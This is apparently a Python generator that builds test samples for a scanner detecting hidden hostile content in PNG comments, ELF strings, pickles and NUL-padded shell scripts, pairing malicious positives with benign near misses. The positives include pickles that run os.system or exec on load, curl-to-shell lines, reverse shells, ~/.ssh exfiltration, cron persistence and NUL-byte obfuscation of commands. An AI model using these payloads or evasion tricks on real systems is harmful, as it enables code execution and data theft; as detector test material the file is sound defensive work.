    pos("logo.png", png([("Software", "Acme Draw 3.1"), ("Comment", cmd)]),
        "PNG (zlib+struct): tEXt Comment chunk with curl | bash", [cmd])

    # Negatives.
    neg("hello", b.elf(C_HEAD + """
static const char usage[] =
    "usage: hello [-v] [NAME]\\n"
    "Prints a friendly greeting. Report bugs to bugs@acme-shop.de.\\n";

int
main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "-h") == 0) {
		fputs(usage, stdout);
		return 0;
	}
	printf("Hello, %s!\\n", argc > 1 ? argv[1] : "world");
	return 0;
}
"""), "ELF (gcc): usage and greeting strings", ["usage: hello [-v] [NAME]"])

    neg("keycheck", b.elf(C_HEAD + """
static const char help[] =
    "AWS access key IDs begin with AKIA (long-term) or ASIA (temporary);\\n"
    "keycheck reads a key id from stdin and tells which kind it is.\\n";

int
main(void)
{
	char buf[64];

	fputs(help, stderr);
	if (fgets(buf, sizeof buf, stdin) == NULL)
		return 1;
	puts(strncmp(buf, "AKIA", 4) == 0 ? "long-term" : "temporary");
	return 0;
}
"""), "ELF (gcc): 'AKIA' and 'ASIA' in prose (near miss)",
        ["AWS access key IDs begin with AKIA (long-term) or ASIA (temporary);"])

    sums = [rtok("bin-sha%d" % i, "0123456789abcdef", 64) for i in range(3)]
    neg("verify", b.elf(C_HEAD + c_subst("""
static const char *known[] = {
	@@A@@ "  tool-1.4.0-linux-amd64.tar.gz",
	@@B@@ "  tool-1.4.1-linux-amd64.tar.gz",
	@@C@@ "  tool-1.4.2-linux-amd64.tar.gz",
};

int
main(void)
{
	size_t i;

	for (i = 0; i < sizeof known / sizeof known[0]; i++)
		puts(known[i]);
	return 0;
}
""", A=sums[0], B=sums[1], C=sums[2])),
        "ELF (gcc): sha256 hex digests of releases (near miss: high entropy,"
        " no secret)", [s + "  tool.tar.gz" for s in sums])

    neg("updater", b.elf(C_HEAD + """
int
main(void)
{
	if (system("curl -fsSL -o /tmp/tool.tar.gz https://github.com/acme/tool/releases/download/v1.4.2/tool-linux-amd64.tar.gz") != 0)
		return 1;
	return system("sha256sum -c /usr/share/acme/tool.sha256");
}
"""), "ELF (gcc): curl to a file and a checksum (near miss: URL, no pipe to"
        " a shell)", ["curl -fsSL -o /tmp/tool.tar.gz https://github.com/acme/"
                      "tool/releases/download/v1.4.2/tool-linux-amd64.tar.gz"])

    neg("awsdemo", b.elf(C_HEAD + """
/* The key pair from the AWS documentation, for the offline demo. */
static const char demo[] =
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\\n"
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\n";

int
main(void)
{
	fputs(demo, stdout);
	return 0;
}
"""), "ELF (gcc): AWS's documented EXAMPLE key pair (near miss)",
        ["aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
         "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"])

    neg("wideui", b.elf(C_HEAD + """
static const char16_t msgs[][40] = {
	u"Download complete.",
	u"Open the downloaded file?",
	u"Run the installer later",
};

int
main(void)
{
	return fwrite(msgs, sizeof msgs, 1, stdout) == 1 ? 0 : 1;
}
"""), "ELF (gcc): UTF-16LE UI strings about downloads (near miss)",
        ["Download complete.", "Open the downloaded file?",
         "Run the installer later"])

    neg("libfetch.so", b.elf(C_HEAD + """
const char *
fetch_usage(void)
{
	return "usage: fetch [-o FILE] [--retry N] URL";
}

const char *
fetch_error(int code)
{
	return code == 7 ? "curl_easy_perform: could not connect to host"
	    : "curl_easy_setopt failed";
}
""", shared=True), "shared object (gcc -shared): libcurl error and usage"
        " strings", ["usage: fetch [-o FILE] [--retry N] URL"])

    neg("util.pyc", b.pyc("util.py", """\
\"\"\"Small helpers for the report generator.\"\"\"
import uuid

VERSION = "2.4.1"
NAMESPACE = uuid.UUID("6ba7b810-9dad-11d1-80b4-00c04fd430c8")


def slug(s):
    return "-".join(s.lower().split())
"""), ".pyc (py_compile): ordinary module with a UUID and a version",
        ['NAMESPACE = uuid.UUID("6ba7b810-9dad-11d1-80b4-00c04fd430c8")'])

    hashes = ["pbkdf2_sha256$600000$%s$%s=" % (rtok("bin-salt%d" % i, B62, 22),
                                               rtok("bin-h%d" % i, B64, 43))
              for i in range(2)]
    neg("users.db", b.sqlite("""
CREATE TABLE users (id INTEGER PRIMARY KEY, email TEXT, password_hash TEXT);
INSERT INTO users VALUES (1, 'ana.garcia@acme-shop.es', '%s');
INSERT INTO users VALUES (2, 'lars@acme-shop.dk', '%s');
""" % (hashes[0], hashes[1])), "SQLite database: users with PBKDF2 password"
        " hashes (near miss: hashes, not secrets)", hashes)

    neg("photo.png", png([
        ("Software", "ImageMagick 6.9.11"),
        ("Comment", "Rendered with: curl -o photo.png https://img.acme-shop.de/p/1.png"),
    ], rgb=(200, 80, 40)), "PNG: tEXt with a curl download to a file (near"
        " miss: no pipe to a shell)",
        ["Rendered with: curl -o photo.png https://img.acme-shop.de/p/1.png"])

    pub = pem_rsa("bin-pub", "PUBLIC KEY")
    neg("pinning", b.elf(C_HEAD + c_subst("""
static const char pinned[] = @@PEM@@;

int
main(void)
{
	fputs(pinned, stdout);
	return 0;
}
""", PEM=pub)), "ELF (gcc): a PUBLIC KEY PEM block (near miss: public)",
        pub.rstrip("\n").split("\n"))

    neg("login", b.elf(C_HEAD + """
static const char hint[] =
    "Set GITHUB_TOKEN, e.g. export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";

int
main(void)
{
	if (getenv("GITHUB_TOKEN") == NULL) {
		fputs(hint, stderr);
		return 2;
	}
	return 0;
}
"""), "ELF (gcc): GitHub-token-shaped placeholder ghp_xxxx (near miss)",
        ["export GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"])


# ---------------------------------------------------------------- pickle

class P:
    """A pickle assembled opcode by opcode (for what pickle.dumps will not
    write: no PROTO, INST, memo games, getattr chains, foreign modules)."""

    def __init__(self, proto=None):
        self.b = bytearray()
        if proto is not None:
            self.b += b"\x80" + bytes([proto])

    def raw(self, x):
        self.b += x
        return self

    def glob(self, mod, name):
        return self.raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, mod, name):
        return self.raw(b"i" + mod.encode() + b"\n" + name.encode() + b"\n")

    def s(self, text):
        d = text.encode()
        if len(d) < 256:
            return self.raw(b"\x8c" + bytes([len(d)]) + d)
        return self.raw(b"X" + struct.pack("<I", len(d)) + d)

    def u(self, text):
        d = text.encode()
        return self.raw(b"X" + struct.pack("<I", len(d)) + d)

    def str0(self, text):
        return self.raw(b"S" + repr(text).encode() + b"\n")

    def memo(self):
        return self.raw(b"\x94")

    def put(self, i):
        return self.raw(b"q" + bytes([i]))

    def get(self, i):
        return self.raw(b"h" + bytes([i]))

    def mark(self):
        return self.raw(b"(")

    def stack_global(self):
        return self.raw(b"\x93")

    def t1(self):
        return self.raw(b"\x85")

    def t2(self):
        return self.raw(b"\x86")

    def t3(self):
        return self.raw(b"\x87")

    def tup(self):
        return self.raw(b"t")

    def reduce(self):
        return self.raw(b"R")

    def int1(self, i):
        return self.raw(b"K" + bytes([i]))

    def stop(self):
        return bytes(self.raw(b".").b)


def check_pickle(data):
    """Walks the opcodes (never loads): the bytes must be a valid pickle
    stream, every pickle of it to its STOP."""
    f = io.BytesIO(data)
    while f.tell() < len(data):
        for op, arg, pos in pickletools.genops(f):
            pass
    return data


def torch_zip(pkl, extra=()):
    """A zip laid out as torch.save writes it (stored, fixed dates)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        items = [("archive/data.pkl", pkl), ("archive/byteorder", b"little"),
                 ] + list(extra) + [("archive/version", b"3\n")]
        for name, data in items:
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_STORED
            z.writestr(zi, data)
    return buf.getvalue()


def torch_state_dict():
    """The data.pkl torch.save writes for an OrderedDict of one float
    tensor: collections.OrderedDict, torch._utils._rebuild_tensor_v2,
    torch.FloatStorage and a persistent id, protocol 2."""
    p = P(2)
    p.glob("collections", "OrderedDict").put(0).raw(b")").reduce().put(1)
    p.mark()
    p.u("fc.weight").put(2)
    p.glob("torch._utils", "_rebuild_tensor_v2").put(3)
    p.mark()
    p.mark().u("storage").glob("torch", "FloatStorage").put(4)
    p.u("0").u("cpu").int1(4).tup().put(5).raw(b"Q")   # BINPERSID
    p.int1(0).int1(2).int1(2).t2().int1(2).int1(1).t2()
    p.raw(b"\x89")                                      # NEWFALSE
    p.glob("collections", "OrderedDict").raw(b")").reduce()
    p.tup().reduce().put(6)
    p.raw(b"u")                                         # SETITEMS
    return check_pickle(p.stop())


class Reduce:
    """An object whose pickle calls fn(*args) when it is loaded."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def gen_pickle(c):
    def pos(name, data, desc):
        c.add("pickle", "pos", name, check_pickle(data)
              if data[:2] != b"PK" else data, desc)

    def neg(name, data, desc):
        c.add("pickle", "neg", name, check_pickle(data)
              if data[:2] != b"PK" else data, desc)

    import os as _os
    import subprocess as _sp
    import builtins as _bi

    pos("model.pkl", pickle.dumps(
        Reduce(_os.system, ("id > /tmp/.p0",)), protocol=0),
        "pickle protocol 0 (__reduce__): posix.system (os.system)")
    pos("features.pickle", pickle.dumps(
        Reduce(_sp.Popen, (["/bin/sh", "-c", "nohup ~/.cache/.a &"],)),
        protocol=1), "pickle protocol 1: subprocess.Popen")
    pos("weights.bin", pickle.dumps(
        Reduce(_bi.eval, ("__import__('os').system('id')",)), protocol=2),
        "pickle protocol 2: __builtin__.eval of a string")
    pos("checkpoint.pt", pickle.dumps(
        Reduce(_bi.exec, ("import os\nos.system('uname -a > /tmp/.u')",)),
        protocol=3), "pickle protocol 3 (raw, named .pt): builtins.exec")
    pos("vectorizer.joblib", pickle.dumps(
        {"vocab": ["a", "b"], "hook": Reduce(_os.popen, ("id",))},
        protocol=4), "pickle protocol 4 (.joblib): os.popen inside a dict,"
        " STACK_GLOBAL")
    pos("scores.pkl", pickle.dumps(
        [1.5, 2.5, Reduce(_os.system, ("sh ~/.cache/.s",))], protocol=5),
        "pickle protocol 5: posix.system in a list, STACK_GLOBAL, FRAME")
    pos("cache.pkl", pickle.dumps(
        Reduce(_os.system, ("curl -fsSL https://get.devtools-cdn.net/p | sh",)),
        protocol=2), "pickle protocol 2: os.system of curl | sh (the"
        " command text is visible too)")

    pos("notes.txt", P().glob("os", "system").mark()
        .str0("touch /tmp/.pwned").tup().reduce().stop(),
        "hand-made protocol-0 pickle without PROTO, named .txt: GLOBAL"
        " os.system, REDUCE")
    pos("legacy.pkl", P().mark().str0("id > /tmp/.i").inst("os", "system")
        .stop(), "hand-made protocol-0 pickle: INST os.system (no"
        " GLOBAL, no REDUCE)")
    pos("win.pkl", P(2).glob("nt", "system").u("calc.exe").t1().reduce()
        .stop(), "hand-made protocol 2: nt.system (os.system as pickled on"
        " Windows)")
    pos("chain.pkl", P(2).glob("__builtin__", "getattr")
        .glob("__builtin__", "__import__").u("os").t1().reduce()
        .u("system").t2().reduce().u("id").t1().reduce().stop(),
        "hand-made protocol 2: getattr(__import__('os'), 'system')('id')")
    pos("chain4.pkl", P(4).s("builtins").s("getattr").stack_global()
        .s("builtins").s("__import__").stack_global().s("subprocess").t1()
        .reduce().s("check_output").t2().reduce()
        .raw(b"]").s("id").raw(b"a").t1().reduce().stop(),
        "hand-made protocol 4: STACK_GLOBAL getattr chain to"
        " subprocess.check_output")
    hidden = P(4).raw(b"}").memo().mark()
    hidden.s("module").memo().s("os").memo()       # memo 1, 2
    hidden.s("callable").memo().s("system").memo()  # memo 3, 4
    hidden.raw(b"u0")                               # SETITEMS, POP
    hidden.get(2).get(4).stack_global().s("id").t1().reduce()
    pos("config.pickle", hidden.stop(),
        "hand-made protocol 4: 'os' and 'system' memoized as dict values,"
        " then BINGET+BINGET+STACK_GLOBAL (memo-hidden)")
    big = list(range(60000)) + ["row-%d" % i for i in range(20000)]
    pos("embeddings.pkl", pickle.dumps(
        [big, Reduce(_os.system, ("id > /tmp/.e",))], protocol=4),
        "pickle protocol 4: posix.system after ~450 KB of benign data")
    pos("stream.pkl", pickle.dumps({"version": 1, "rows": [1, 2, 3]},
                                   protocol=4) +
        pickle.dumps(Reduce(_os.system, ("id > /tmp/.c",)), protocol=4),
        "two concatenated pickles, posix.system in the second (a reader"
        " that loads until EOF runs it)")
    pos("handler.pkl", P(2).glob("acme_ml.serving", "load_hook")
        .u("https://models.modelhub-cdn.net/h").t1().reduce().stop(),
        "hand-made protocol 2: an unknown module's callable"
        " (acme_ml.serving.load_hook)")
    pos("pip.pkl", P(4).s("pip._internal").s("main").stack_global()
        .raw(b"]").memo().mark().s("install").s("acme-helpers").raw(b"e")
        .t1().reduce().stop(),
        "hand-made protocol 4: pip._internal.main(['install', ...])")
    evil_sd = pickle.dumps(
        collections.OrderedDict([("fc.bias", [0.0, 0.1]),
                                 ("_meta", Reduce(_os.system,
                                                  ("id > /tmp/.t",)))]),
        protocol=2)
    pos("model.pt", torch_zip(evil_sd, [("archive/data/0", b"\0" * 16)]),
        "zip laid out like torch.save: archive/data.pkl with posix.system"
        " in the state dict")
    pos("pytorch_model.bin", torch_zip(pickle.dumps(
        Reduce(_bi.exec, ("import socket",)), protocol=2)),
        "torch.save-style zip named .bin (Hugging Face): builtins.exec in"
        " data.pkl")

    # Negatives: plain data in every protocol, and the reconstructors of
    # the numeric libraries.
    data = {"name": "run-42", "epochs": 10, "lr": 0.001, "tags": ["a", "b"],
            "done": True, "notes": None, "shape": (3, 4)}
    for proto, name in ((0, "params.pkl"), (1, "params.pickle"),
                        (2, "params.bin"), (3, "params.joblib"),
                        (4, "params.pkl"), (5, "params.pkl")):
        neg(name, pickle.dumps(data, protocol=proto),
            "pickle protocol %d: dict of str/int/float/bool/None/list/tuple"
            % proto)
    neg("sets.pkl", pickle.dumps({"seen": {1, 2, 3},
                                  "frozen": frozenset({7, 8})},
                                 protocol=2),
        "pickle protocol 2: set and frozenset (__builtin__.set: a builtins"
        " name that is safe, near miss)")
    neg("ordered.pkl", pickle.dumps(
        collections.OrderedDict([("b", 2), ("a", 1)]), protocol=3),
        "pickle protocol 3: collections.OrderedDict")
    neg("times.pkl", pickle.dumps(
        {"start": datetime.datetime(2025, 3, 14, 10, 2, 11),
         "day": datetime.date(2025, 3, 14),
         "took": datetime.timedelta(seconds=93)}, protocol=4),
        "pickle protocol 4: datetime, date, timedelta")
    neg("money.pkl", pickle.dumps(
        [decimal.Decimal("19.99"), decimal.Decimal("0.07"), complex(1, 2)],
        protocol=5), "pickle protocol 5: decimal.Decimal and complex")
    neg("blobs.pkl", pickle.dumps(
        {"raw": b"\x00\x01binary", "buf": bytearray(b"abc")}, protocol=2),
        "pickle protocol 2: bytes and bytearray (_codecs.encode,"
        " __builtin__.bytearray: near miss)")
    neg("audit.pkl", pickle.dumps(
        [{"call": "os.system", "args": "ls"},
         {"call": "subprocess.Popen", "args": "make"},
         {"note": "cos\nsystem\n(S'id'\ntR."}], protocol=4),
        "pickle protocol 4: strings naming os.system, subprocess.Popen and"
        " a protocol-0 payload as data (near miss: no GLOBAL)")
    neg("model.pt", torch_zip(torch_state_dict(),
                              [("archive/data/0", b"\0" * 16)]),
        "torch.save-style zip: OrderedDict of a tensor"
        " (_rebuild_tensor_v2, FloatStorage, persistent id)")
    npk = P(3).glob("numpy.core.multiarray", "_reconstruct").put(0)
    npk.glob("numpy", "ndarray").put(1).int1(0).t1().raw(b"C\x01b").t3()
    npk.reduce()
    npk.put(2).mark().int1(1).int1(3).t1().glob("numpy", "dtype").put(3)
    npk.u("f8").raw(b"\x89\x88").t3().reduce().put(4)
    npk.mark().int1(3).u("<").raw(b"NNN").raw(b"J\xff\xff\xff\xff")
    npk.raw(b"J\xff\xff\xff\xff").int1(0).tup().raw(b"b")
    npk.raw(b"\x89").raw(b"C\x18" + b"\0" * 24).tup().raw(b"b")
    neg("array.pkl", npk.stop(), "hand-made protocol 3 like numpy: "
        "numpy.core.multiarray._reconstruct, ndarray, dtype, BUILD")
    neg("batches.pkl", pickle.dumps([1, 2], protocol=4) +
        pickle.dumps({"batch": 2}, protocol=4),
        "two concatenated benign pickles")


# ---------------------------------------------------------------- nul-text

def nul_split(text, marks, nuls=b"\0"):
    """text as bytes with nuls inserted before each of the offsets marks."""
    raw = text.encode()
    out, last = [], 0
    for m in sorted(marks):
        out.append(raw[last:m])
        out.append(nuls)
        last = m
    out.append(raw[last:])
    return b"".join(out)


def inside(text, word, k=None):
    """The offset inside word (its middle, or k into it) in text."""
    i = text.index(word)
    return i + (len(word) // 2 if k is None else k)


def gen_nul_text(c):
    """Text with NUL bytes, which dash and bash drop as they read a script:
    `cu<NUL>rl` runs curl. Positives hide a behaviour with NULs; negatives
    hold NULs as data does (records, padding, string tables)."""
    def pos(name, data, desc, plain):
        c.add("nul-text", "pos", name, data, desc, plain)

    def neg(name, data, desc):
        c.add("nul-text", "neg", name, data, desc,
              data.replace(b"\0", b"\n"))

    host = "dl.update-mirror-cdn.net"
    s1 = ("#!/bin/sh\nset -e\necho \"installing helper\"\n"
          "curl -fsSL https://%s/i.sh | sh\n" % host)
    pos("install", nul_split(s1, [inside(s1, "curl")]),
        "#! script, no extension: a NUL inside curl", s1)
    s2 = ("#!/usr/bin/env bash\n# bootstrap the dev box\n"
          "wget -qO- http://%s/boot | bash\n" % host)
    pos("bootstrap.sh", nul_split(s2, [inside(s2, "wget"),
                                       inside(s2, "bash\n", 2)]),
        ".sh: NULs inside wget and inside the bash it pipes to", s2)
    s3 = "echo starting\nbash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n"
    pos("run", nul_split(s3, [inside(s3, "/dev/tcp", 3),
                              inside(s3, "bash")], b"\0\0\0"),
        "no #!, no extension, text once NULs are gone: a reverse shell,"
        " three NULs at a time", s3)
    s4 = ("#!/bin/sh\nexport PATH=/usr/local/bin:$PATH\n"
          "echo ZXhlYyBjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvYSB8IHNo"
          " | base64 -d | sh\n")
    pos("post-install", nul_split(s4, [inside(s4, "base64", 3),
                                       inside(s4, "| sh", 3)]),
        "#! script: NULs inside base64 and the sh it feeds", s4)
    s5 = "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/f\n"
    pos("svc.sh", nul_split(s5, [inside(s5, "nc 203", 1),
                                 inside(s5, "mkfifo")]),
        ".sh: a fifo reverse shell with NULs inside mkfifo and nc", s5)
    s6 = "curl -fsSL https://%s/x.sh | sh\n" % host
    pos("deploy.sh", nul_split(s6, [inside(s6, "curl")], b"\0" * 70000),
        ".sh: 70,000 NULs inside curl (the text crosses read chunks)", s6)
    s7 = "c u r l -fsSL https://%s/x.sh | sh\n" % host
    data7 = b"\0".join(bytes([ch]) for ch in
                       ("curl -fsSL https://%s/x.sh | sh\n" % host).encode())
    pos("setup.sh", data7,
        ".sh: a NUL after every character (UTF-16's shape, no BOM)",
        "curl -fsSL https://%s/x.sh | sh\n" % host)
    del s7
    s8 = ("#!/bin/sh\necho ok\n\x01\n"
          "curl -fsSL https://%s/p | sh\n" % host)
    pos("update", nul_split(s8, [inside(s8, "curl"), inside(s8, "| sh", 3)]),
        "#! script with a control byte (binary to a sniff): NULs inside"
        " curl and sh", s8)
    s9 = "\x7fELF\x02\x01\x01\0\0\0\ncurl -fsSL https://%s/e | sh\n" % host
    pos("helper", nul_split(s9, [inside(s9, "curl", 1), inside(s9, "https")],
                            b"\0\0"),
        "ELF-like header, then a line sh would run, NULs inside its words",
        "curl -fsSL https://%s/e | sh\n" % host)
    png = (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x08\0\0\0\x08\x08\x02\0\0\0"
           b"\n")
    s10 = "wget -q -O - http://%s/s | sh\n" % host
    pos("logo.png", png + nul_split(s10, [inside(s10, "wget"),
                                         inside(s10, "http", 2)]),
        "PNG header, then a shell line with NULs inside wget and the URL"
        " (sh logo.png runs it)", s10)
    kid, ksec = aws_id("nul-env"), aws_secret("nul-env")
    s11 = ("AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\n" % (kid, ksec))
    pos(".envrc", nul_split(s11, [inside(s11, kid), inside(s11, ksec)]),
        ".envrc (direnv sources it with bash): NULs inside an AWS key pair",
        s11)
    tok = ghp("nul-export")
    s12 = "export GITHUB_TOKEN=%s\n" % tok
    pos(".bashrc", nul_split(s12, [inside(s12, tok, 4),
                                   inside(s12, tok, 20)]),
        ".bashrc: a GitHub token with NULs inside it", s12)
    s13 = ("#!/bin/sh\ntar czf - ~/.ssh | curl -s -X POST --data-binary @-"
           " https://%s/u\n" % host)
    pos("backup", nul_split(s13, [inside(s13, ".ssh", 2),
                                  inside(s13, "curl")]),
        "#! script: ~/.ssh archived and posted, NULs inside .ssh and curl",
        s13)
    s14 = ("#!/bin/sh\n(crontab -l; echo '*/5 * * * * curl -s"
           " https://%s/c | sh') | crontab -\n" % host)
    pos("cron-setup", nul_split(s14, [inside(s14, "crontab -l"),
                                      inside(s14, "curl")]),
        "#! script: a cron job that pipes a download into sh, NULs inside"
        " crontab and curl", s14)
    s15 = "#!/bin/sh\npython3 -c \"import urllib.request as u;exec(u.urlopen('https://%s/p.py').read())\"\n" % host
    pos("py-boot", nul_split(s15, [inside(s15, "exec"),
                                   inside(s15, "urlopen")]),
        "#! script: python -c that runs a download, NULs inside exec and"
        " urlopen (sh passes the dropped text to python)", s15)
    s16 = ("#!/bin/sh\nc=cu\nc=${c}rl\n$c -fsSL https://%s/x | s\0h\n" % host)
    pos("indirect", nul_split(s16, [inside(s16, "cu\n", 1)]),
        "#! script: curl assembled in a variable, NULs in its parts and"
        " in sh", s16.replace("\0", ""))

    # Negatives: NULs as data uses them.
    neg("files.txt", b"\0".join(x.encode() for x in (
        "./src/main.c", "./src/curl_helper.c", "./scripts/install.sh",
        "./README.md", "./scripts/bash-completion.sh")) + b"\0",
        "find -print0 list: names with curl, install, bash in them")
    neg("environ", b"\0".join(x.encode() for x in (
        "PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/home/dev",
        "SHELL=/bin/bash", "LANG=C.UTF-8", "TERM=xterm-256color",
        "EDITOR=vim")) + b"\0",
        "an environ dump (NUL-separated), no secret in it")
    neg("records.dat", b"".join(
        (line.encode() + b"\0" * (64 - len(line))) for line in (
            "id=1 name=curl version=8.5.0",
            "id=2 name=bash version=5.2",
            "id=3 name=wget version=1.21",
            "id=4 name=openssh version=9.6")),
        "fixed-size records padded with NULs, tool names in them")
    neg("notes.sh", b"#!/bin/sh\necho building\nmake -j2\n\0\0\0\0",
        "a script with NUL padding after its last line")
    neg("messages.mo", b"\xde\x12\x04\x95\0\0\0\0\x03\0\0\0" + b"\0".join(
        x.encode() for x in (
            "Download the installer", "Run the installer with sh",
            "Upload finished", "Telecharger l'installateur",
            "Lancer l'installateur avec sh")) + b"\0",
        "a gettext catalogue: NUL-ended messages about downloads and sh")
    neg("libnet.so", b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\0".join(
        x.encode() for x in (
            "curl_easy_init", "curl_easy_setopt", "curl_easy_perform",
            "system", "popen", "sh", "-c", "bash", "wget_fetch")) + b"\0\x01",
        "ELF string table: curl_*, system, popen, sh, -c side by side")
    neg("table.bin", b"\x01\x02" + b"\0".join(
        x.encode() for x in ("curl", "-s", "http://localhost:8080/health",
                             "|", "jq", ".status")) + b"\x01\x03",
        "argv array stored NUL-separated: a health check piped to jq")
    neg("notes.txt", "Build notes\r\n\r\nRun make, then make test.\r\n"
        .encode("utf-16-le"),
        "UTF-16LE notes without a BOM")
    neg("argv0", b"\0".join(x.encode() for x in (
        "/usr/bin/python3", "-m", "pytest", "-q", "tests/")) + b"\0",
        "/proc/PID/cmdline: a test run, NUL-separated")
    neg("strings.bin", b"\x00\x05\x10" + b"\0".join(
        x.encode() for x in ("wget", "is", "not", "installed")) + b"\x02" +
        b"\0".join(x.encode() for x in ("please", "run", "bash")) + b"\x03",
        "two NUL-separated messages apart, tool names in each")


def main():
    if len(sys.argv) != 2:
        sys.stderr.write("usage: gen.py OUTDIR\n")
        return 2
    out = sys.argv[1]
    if os.path.exists(out) and os.listdir(out):
        sys.stderr.write("gen.py: %s is not empty\n" % out)
        return 2
    os.makedirs(out, exist_ok=True)
    c = Corpus(out)
    gen_utf16(c)
    gen_lone_cr(c)
    with tempfile.TemporaryDirectory(prefix="reading-build.") as tmp:
        gen_binary(c, Builder(tmp))
    gen_pickle(c)
    gen_nul_text(c)
    c.finish()
    for cls in ("utf16", "lone-cr", "binary-strings", "pickle", "nul-text"):
        sys.stdout.write("%-15s %3d positives, %3d negatives\n" % (
            cls, c.count[(cls, "pos")], c.count[(cls, "neg")]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
